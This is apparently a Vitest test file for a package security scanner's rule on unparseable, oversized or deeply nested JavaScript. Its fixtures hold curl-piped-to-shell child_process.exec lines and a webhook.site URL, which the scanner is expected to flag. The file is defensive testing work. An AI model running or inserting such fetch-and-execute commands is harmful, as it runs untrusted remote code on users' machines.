import { describe, expect, it } from 'vitest';
import { LOOSE_MAX_ERRORS, parseJavaScript } from '../../../src/analyzers/javascript/parse.js';
import { jsFindings } from '../helpers.js';

describe('JS-000 unparseable-code', () => {
  it('reports a file with a syntax error and still analyses the partial tree', async () => {
    const code = `const cp = require('child_process');
      function broken( { return 1 }
      cp.exec('curl -s http://192.0.2.1/x.sh | sh');`;
    const f = await jsFindings({ 'index.js': code });
    const unparseable = f.filter((x) => x.ruleId === 'JS-000');
    expect(unparseable).toHaveLength(1);
    expect(unparseable[0]!.message).toMatch(/syntax errors and was only partially parsed/);
    expect(f.some((x) => x.ruleId === 'JS-001' && /curl/.test(x.message))).toBe(true);
  });
  it('says so when no parser reads a file, and still runs the text-level checks', async () => {
    // more syntax errors than the loose parser recovers from: not code
    const code = `${'\u0001 # '.repeat(3000)} https://webhook.site/00000000-0000-0000-0000-000000000000`;
    const f = await jsFindings({ 'index.js': code });
    expect(f.find((x) => x.ruleId === 'JS-000')?.message).toMatch(/could not be parsed by any parser/);
    expect(f.some((x) => x.ruleId === 'NET-001' && /webhook\.site/.test(x.message))).toBe(true);
  });
  it('does not report code that parses', async () => {
    const f = await jsFindings({ 'index.js': 'module.exports = (a, b) => a + b;\n' });
    expect(f.filter((x) => x.ruleId === 'JS-000')).toHaveLength(0);
  });
  it('gives up on a large file of non-code instead of recovering token by token', async () => {
    // A data file a package lists as an entry point (PGlite exports its 6 MB `pglite.data`): every
    // line is several syntax errors. Recovering from each one used to cost a scan of the input
    // from its start, and a scan of such a package did not finish.
    const line = 'Europe/Paris: +01:00 CET, 1970-01-01T00:00:00 ## ?? @@ ::\n';
    const data = line.repeat(Math.ceil(400_000 / line.length));
    const parsed = parseJavaScript(data, 'dist/tz.data');
    expect(parsed.ast).toBeUndefined();
    expect(parsed.recovered).toBe(true);
    const f = await jsFindings(
      { 'dist/tz.data': data },
      { name: 'p', version: '1.0.0', main: 'dist/tz.data' },
    );
    expect(f.find((x) => x.ruleId === 'JS-000')?.message).toMatch(/could not be parsed by any parser/);
    // the error budget is what ended it: a file with a handful of errors is still recovered
    expect(LOOSE_MAX_ERRORS).toBeGreaterThan(100);
    const few = parseJavaScript(`let a = 1;\n${'let ok = 2;\n'.repeat(20_000)}let b = ;\n`, 'x.js');
    expect(few.ast).toBeDefined();
    expect(few.parser).toBe('acorn-loose');
  });
  it('analyses what it can of a file nested deeper than any real code, and says so', async () => {
    // a 200,000-term chain is a tree 200,000 levels deep: the recursive walk ran out of stack and
    // the whole JavaScript analyzer failed, hiding the command next to it
    const code = `var x = ${'a+'.repeat(200_000)}a;\nrequire('child_process').exec('curl -s http://192.0.2.1/x | sh');\n`;
    const f = await jsFindings({ 'index.js': code });
    const deep = f.find((x) => x.ruleId === 'JS-000');
    expect(deep?.message).toMatch(/nests code deeper than 1500 levels/);
    expect(deep?.severity).toBe('medium');
    expect(f.some((x) => x.ruleId === 'JS-001' && /curl/.test(x.message))).toBe(true);
  });
});
